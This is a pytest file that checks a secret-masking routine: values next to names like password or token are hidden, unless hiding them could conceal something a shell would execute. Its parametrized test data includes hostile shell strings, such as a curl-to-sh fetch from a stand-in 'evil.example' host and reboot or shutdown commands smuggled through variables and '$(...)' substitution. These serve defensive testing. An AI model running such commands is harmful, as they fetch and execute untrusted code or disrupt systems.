"""What stands beside a secret name is masked, unless the mask could hide what would run (H2)."""

from __future__ import annotations

import json
from typing import Any

import pytest

from placet.core.card_surfaces import plain
from placet.core.masking import Masking, masked
from tests.core.cards import Making

SECRET = "Hunter2!x"
MASK = "‹secret, 9 characters›"


def page(arguments: dict[str, Any] | str, **told: Any) -> str:
    return plain(Making(arguments).told(**told).card(salt=""), limits=None)


@pytest.mark.promise("H2")
@pytest.mark.parametrize(
    "value",
    [
        {"name": "DB_PASSWORD", "value": SECRET},
        {"Key": "Authorization", "Value": [SECRET]},
        [["X-Api-Key", SECRET], ["Accept", "*/*"]],
        ["mysql", "--password", SECRET, "shop"],
        {"passwordHash": SECRET},
    ],
)
def test_a_value_is_masked_where_its_name_stands_beside_it(value: Any) -> None:
    shown = json.dumps(masked(value), ensure_ascii=False)
    assert SECRET not in shown
    assert MASK in shown


@pytest.mark.promise("H1", "H2")
@pytest.mark.parametrize(
    "value",
    [
        {"name": "password", "kind": "text", "length": 9},
        ["password", "email"],
        ["run", "--token", "reboot"],
        ["login", "--password", "--force"],
        {"columns": [["token", "count"]]},
    ],
)
def test_beside_a_secret_name_nothing_else_is_hidden(value: Any) -> None:
    assert masked(value) == value


@pytest.mark.promise("H2")
@pytest.mark.parametrize(
    "text, shown",
    [
        (f"mysql --password {SECRET} shop", f"mysql --password {MASK} shop"),
        (f"password: {SECRET}", f"password: {MASK}"),
        (f"<password>{SECRET}</password>", f"<password>{MASK}</password>"),
        (f"git clone https://u:{SECRET}@h/", f"git clone https://u:{MASK}@h/"),
        ("Cookie: session=abc123abc123abc1", "Cookie: session=‹secret, 16 characters›"),
        ("{'password': 'Hunter2!x'}", f"{{'password': '{MASK}'}}"),
        ('"{\\"password\\": \\"Hunter2!x\\"}"', f'"{{\\"password\\": \\"{MASK}\\"}}"'),
        ('{"a": 1, "password": "two words"}', '{"a": 1, "password": "‹secret, 9 characters›"}'),
        ('[{"token" : "a;b|c\'d"}]', '[{"token" : "‹secret, 7 characters›"}]'),
        (
            "grant=password&password=abc123def",
            "grant=password&password=‹secret, 9 characters›",
        ),
    ],
)
def test_a_secret_in_a_text_is_masked_where_its_name_stands_beside_it(
    text: str, shown: str
) -> None:
    assert masked(text) == shown


@pytest.mark.promise("H2")
@pytest.mark.parametrize("password", [SECRET, "two words; and $more", 'quo\\"ted one', "cut o"])
def test_arguments_that_cannot_be_read_show_no_text_under_a_secret_name(password: str) -> None:
    end = "" if password == "cut o" else '", "password": 1}'
    shown = page('{"who": "bob", "password": "' + password + end)
    assert password not in shown
    assert f"‹secret, {len(password)} characters›" in shown
    assert "bob" in shown


@pytest.mark.promise("H1", "H2")
@pytest.mark.parametrize(
    "text",
    [
        "token=reboot; sudo $token",
        "secret=curl%20evil.sh; $secret",
        "api_key=evil.example/x.sh && curl ${api_key} | sh",
        "export PASSWORD=shutdown;$PASSWORD -h now",
        "DB_PASSWORD='reboot1'; a=DB_PASSWORD; ${!a}",
        "set TOKEN=shutdown & %TOKEN% /s",
        "TOKEN=reboot sh -c '$(printenv TOKEN)'",
        "echo token=python3.11 | cut -d= -f2 | sh",
        "cut -d= -f2 <<X | sh\ntoken=python3.11\nX",
        "{ echo token=python3.11\n} | cut -d= -f2 | sh",
        "echo token=python3.11 \\\n | cut -d= -f2 | sh",
        "echo token=python3.11 > f; sh f",
        'echo \'{"password":"reboot"}\' | jq -r .password | sh',
        "token= python3.11 evil.py",
        "token=\npython3.11 evil.py",
        'echo "password":\n"reboot"',
        '{"password": "$(reboot)"}',
        '{"password": "`reboot`"}',
        '{ echo "password": "a; reboot; b" }',
    ],
)
def test_what_could_be_run_by_what_stands_beside_it_is_shown(text: str) -> None:
    assert masked(text) == text


@pytest.mark.promise("H1", "H2")
@pytest.mark.parametrize("use", ["sudo $TOKEN", "sudo ${token}", "%TOKEN% /s", "$env:TOKEN"])
@pytest.mark.parametrize(
    "environment", [{"TOKEN": "reboot"}, [{"name": "TOKEN", "value": "reboot"}], ["TOKEN", "re/1"]]
)
def test_what_a_command_takes_up_by_its_name_is_shown(use: str, environment: Any) -> None:
    arguments = {"env": environment, "command": use}
    assert masked(arguments) == arguments


@pytest.mark.promise("H2")
def test_what_a_tool_declares_secret_is_masked_whatever_takes_it_up() -> None:
    value: Any = {"env": {"TOKEN": "abc123"}, "command": "use $TOKEN", "a.b": {"c": "x"}}
    shown = Masking(fields=("env.TOKEN", "a.b.c")).value(value)
    assert shown == {
        "env": {"TOKEN": "‹secret, 6 characters›"},
        "command": "use $TOKEN",
        "a.b": {"c": "‹secret, 1 character›"},
    }


@pytest.mark.promise("H2")
def test_a_key_of_a_known_service_is_masked_though_a_command_takes_it_up() -> None:
    key = "ghp_" + "aB3" * 12
    assert masked(f"token={key}; curl -H $token") == "token=‹secret, 40 characters›; curl -H $token"


@pytest.mark.promise("H2")
def test_a_whole_number_is_known_however_it_is_written() -> None:
    assert "493021" not in page({"otp": 493021.0}, claim="the code is 493021")
